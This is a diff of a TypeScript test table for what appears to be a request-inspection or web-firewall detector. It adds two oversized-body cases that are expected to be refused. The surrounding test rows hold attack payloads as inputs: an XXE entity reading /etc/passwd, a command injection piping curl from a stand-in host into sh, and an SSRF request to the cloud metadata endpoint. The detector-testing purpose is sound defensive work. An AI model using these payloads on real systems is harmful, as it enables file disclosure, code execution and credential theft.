@@ -73,6 +73,9 @@ const PARTS: [string, string, string, string][] = [
   ['XML body', raw('POST', '/xmlrpc', { 'Content-Type': 'application/xml' }, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), 'xxe_detected', 'body'],
   ['plain text body', raw('POST', '/notes', { 'Content-Type': 'text/plain' }, 'note; curl http://x.test/s | sh'), 'cmdi_detected', 'body'],
   ['query SSRF', raw('GET', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`, {}), 'ssrf_detected', 'query:url'],
+  // the budget's structure limits (docs/detection.md): refused whole, however harmless the values
+  ['JSON body nested 600 deep', raw('POST', '/api/items', json, `${'{"a":'.repeat(600)}1${'}'.repeat(600)}`), 'body_too_complex', 'body'],
+  ['form body of 1,001 fields', raw('POST', '/comments', form, Array.from({ length: 1001 }, (_, i) => `f${i}=v`).join('&')), 'body_too_complex', 'body'],
 ];
 
 /** The bypasses of issue 8, each valid SQL or HTML that the old regexes let through. */
